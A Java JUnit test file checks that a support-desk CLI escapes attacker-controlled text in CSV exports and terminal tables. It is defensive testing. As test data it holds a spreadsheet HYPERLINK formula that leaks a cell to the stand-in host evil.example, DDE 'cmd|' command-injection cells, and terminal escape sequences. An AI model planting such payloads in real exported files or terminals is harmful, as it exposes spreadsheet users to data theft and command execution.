package com.partnerdesk.adapters.cli;

import static org.assertj.core.api.Assertions.assertThat;

import com.partnerdesk.adapters.cli.CliTestDesk.Result;
import com.partnerdesk.application.fakes.Samples;
import com.partnerdesk.domain.audit.AuditEvent;
import com.partnerdesk.domain.audit.Channel;
import com.partnerdesk.domain.cases.Impact;
import com.partnerdesk.domain.cases.Problem;
import com.partnerdesk.domain.cases.SymptomClassification;
import com.partnerdesk.domain.cases.UsersAffected;
import com.partnerdesk.domain.customer.Customer;
import java.nio.file.Files;
import java.nio.file.Path;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Text an attacker controls reaches the operator's spreadsheet or terminal only as text (issue 13). */
class HostileTextOutputTest {
    private static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?\"&A1)";

    private final CliTestDesk desk = new CliTestDesk();

    @Test
    void aFailedSignInsEmailReachesTheAuditCsvAsText() {
        desk.storage.unitOfWork().writeVoid(() -> desk.storage.audit().append(
                AuditEvent.anonymous(HYPERLINK, "agent.sign-in", Channel.WEB, "unknown agent", Samples.T0)));

        Result csv = desk.run("audit", "export", "--format", "csv");

        assertThat(csv.exitCode()).as(csv.err()).isZero();
        assertThat(csv.out()).contains(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1)\",ANONYMOUS,")
                .doesNotContain(",\"=HYPERLINK");
    }

    @Test
    void caseTitlesAndCustomerNamesStartingWithAFormulaCharacterAreText() {
        // stored text is stripped, so TAB and CR can only start a cell in the middle of nowhere: see the Csv test
        for (String start : new String[] {"=", "+", "-", "@"}) {
            Customer customer = renamed(start + "1+1 Defense");
            desk.storage.unitOfWork().writeVoid(() -> {
                desk.storage.customers().upsert(customer);
                desk.storage.cases().insert(Samples.newCase(customer.tenantId(), titled(start + "cmd|' /C calc'!A0"),
                        Samples.T0));
            });

            String cases = desk.run("cases", "list", "--format", "csv").out();
            String customers = desk.run("customers", "list", "--format", "csv").out();

            assertThat(cases).as("case title starting with %s", start).contains("'" + start + "cmd|")
                    .doesNotContain("," + start + "cmd|").doesNotContain(",\"" + start + "cmd|");
            assertThat(customers).as("customer name starting with %s", start).contains("'" + start + "1+1 Defense")
                    .doesNotContain("," + start + "1+1").doesNotContain(",\"" + start + "1+1");
        }
    }

    @Test
    void aGuardedCustomersCsvImportsBackToTheSameNames(@TempDir Path dir) throws Exception {
        desk.storage.unitOfWork().writeVoid(() -> desk.storage.customers().upsert(renamed("=SUM(A1:A9) Logistics")));
        Path file = Files.writeString(dir.resolve("customers.csv"), desk.run("customers", "list", "--format", "csv").out());

        Result again = desk.run("customers", "import", file.toString());

        assertThat(again.exitCode()).as(again.err()).isZero();
        assertThat(again.out()).isEqualTo("added 0, updated 0, unchanged 1\n");
    }

    @Test
    void controlCharactersInATitleAreEscapedInTableOutput() {
        desk.storage.unitOfWork().writeVoid(() -> {
            desk.storage.customers().upsert(Samples.contoso());
            desk.storage.cases().insert(Samples.newCase(Samples.CONTOSO_ID,
                    titled("Mail\u001b[2J\u001b]0;pwned\u0007 down\u0000 now\u009b"), Samples.T0));
        });

        Result table = desk.run("cases", "list");

        assertThat(table.exitCode()).as(table.err()).isZero();
        assertThat(table.out()).doesNotContain("\u001b", "\u0007", "\u0000", "\u009b")
                .contains("Mail\\x1b[2J\\x1b]0;pwned\\x07 down\\x00 now\\x9b");
    }

    @Test
    void aSinceOutsideTheCalendarIsBadUsageNamingTheOption() {
        for (String[] command : new String[][] {{"audit", "export"}, {"report", "escalations"}}) {
            for (String since : new String[] {"+1000000000-12-31T23:59:59Z", "-5000-01-01T00:00:00Z",
                    "+999999999-12-31T23:59:59"}) {
                Result result = desk.run(command[0], command[1], "--since", since);

                assertThat(result.exitCode()).as(since + ": " + result.err()).isEqualTo(ExitCodes.BAD_INPUT);
                assertThat(result.err()).contains("--since: '" + since + "'").doesNotContain("EpochDay", "Exception");
            }
        }
    }

    private static Customer renamed(String name) {
        Customer c = Samples.contoso();
        return new Customer(c.tenantId(), name, c.domain(), c.cloud(), c.region(), c.relationship(), c.supportRights(),
                c.supportPlan(), c.resellerType(), c.country(), c.managedServices());
    }

    private static Problem titled(String title) {
        return new Problem(Samples.EXCHANGE, title, "Users see NDR 4.4.7 for every message to army.mil.",
                Samples.T0.minusSeconds(600), UsersAffected.TENANT, Impact.CRITICAL, SymptomClassification.UNAVAILABLE);
    }

    @Test
    void everyFormulaStartIsGuardedAndTakenOffAgainOnRead() {
        for (String start : new String[] {"=", "+", "-", "@", "\t", "\r"}) {
            String cell = start + "2+3";

            assertThat(Csv.guard(cell)).isEqualTo("'" + cell);
            assertThat(Csv.line(java.util.List.of(cell, "plain"))).startsWith(start.equals("\r") ? "\"'" : "'");
            assertThat(Csv.unguard(Csv.guard(cell))).isEqualTo(cell);
        }
        assertThat(Csv.guard("it's fine")).isEqualTo("it's fine");
        assertThat(Csv.unguard("'plain")).isEqualTo("'plain");
    }
}
